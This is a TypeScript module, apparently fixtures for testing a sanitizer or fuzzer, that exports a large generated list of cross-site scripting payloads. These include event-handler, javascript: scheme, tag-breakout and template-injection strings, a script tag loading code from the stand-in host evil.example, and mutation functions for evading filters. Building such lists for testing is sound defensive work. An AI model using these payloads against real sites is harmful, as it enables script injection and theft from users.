const run = 'alert(1)';
const events = [
  'onerror',
  'onload',
  'onclick',
  'onfocus',
  'onmouseover',
  'onanimationstart',
  'ontoggle',
  'onpointerenter',
];
const elements = ['img src=x', 'svg', 'body', 'iframe', 'input autofocus', 'details open', 'video src=x', 'math'];
const schemes = ['javascript:', 'vbscript:', 'data:text/html,', 'JaVaScRiPt:', 'java\tscript:', '\u0001javascript:'];
const carriers = ['a href', 'form action', 'iframe src', 'object data', 'embed src', 'base href'];

const handlers = elements.flatMap((element) => events.map((event) => `<${element} ${event}=${run}>`));
const addresses = [
  ...schemes.map((scheme) => scheme + run),
  ...schemes.flatMap((scheme) => carriers.map((carrier) => `<${carrier}="${scheme}${run}">x`)),
];
const others = [
  `<script>${run}</script>`,
  '<script src=//evil.example/x.js></script>',
  `<SCRIPT>${run}</SCRIPT>`,
  `<script/x>${run}</script>`,
  `<<script>${run}//<</script>`,
  `<svg><script>${run}</script></svg>`,
  `<math><mtext><script>${run}</script>`,
  `<iframe srcdoc="<script>${run}</script>"></iframe>`,
  `<meta http-equiv=refresh content="0;url=javascript:${run}">`,
  `<link rel=import href="data:text/html,<script>${run}</script>">`,
  `<style>@import 'javascript:${run}'</style>`,
  `<div style="background:url(javascript:${run})">`,
  `<isindex action=javascript:${run}>`,
  `<xss id=x tabindex=1 onfocus=${run}></xss>`,
  `<a href="javas&#99;ript:${run}">x</a>`,
  `<a href="&#x6a;avascript:${run}">x</a>`,
  `<img src="x" onerror="&#97;lert(1)">`,
  `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
  `<template><script>${run}</script></template>`,
  `<svg><a xlink:href="javascript:${run}"><text>x</text></a></svg>`,
  `<svg><animate onbegin=${run} attributeName=x>`,
  `<svg><set attributeName=href to=javascript:${run}>`,
  `<button formaction=javascript:${run}>x</button>`,
  `<object data="data:text/html,<script>${run}</script>">`,
  `{{constructor.constructor('${run}')()}}`,
  `\${${run}}`,
  `#{${run}}`,
  `<%= ${run} %>`,
  `';${run};'`,
  `";${run};"`,
  `\`;${run};\``,
  `]]><script>${run}</script>`,
  `--><script>${run}</script>`,
  `*/${run}/*`,
  `</title><script>${run}</script>`,
  `</textarea><script>${run}</script>`,
  `</style><script>${run}</script>`,
  `</script><script>${run}</script>`,
  `<!--<img src="--><img src=x onerror=${run}>`,
  `<!--[if gte IE 4]><script>${run}</script><![endif]-->`,
  `<?xml-stylesheet href="javascript:${run}"?>`,
  '__proto__',
  'constructor',
  `<plaintext><script>${run}</script>`,
];

/** What somebody may write where a text or an address is asked for. */
export const hostileTexts: readonly string[] = [...handlers, ...addresses, ...others];

/** The same, so that a filter does not know it again. */
export const mutations: readonly ((text: string) => string)[] = [
  (text) => text,
  (text) => text.toUpperCase(),
  (text) => `">${text}`,
  (text) => `'>${text}`,
  (text) => `x" ${text}`,
  (text) => text.replaceAll('<', '<\u0000'),
  (text) => text.replaceAll(' ', '/'),
  (text) => text.replaceAll('<', '\uff1c').concat(text),
  (text) => encodeURIComponent(text),
  (text) => text.replaceAll(/[<>"']/g, (sign) => `&#${sign.charCodeAt(0)};`).concat(text),
];
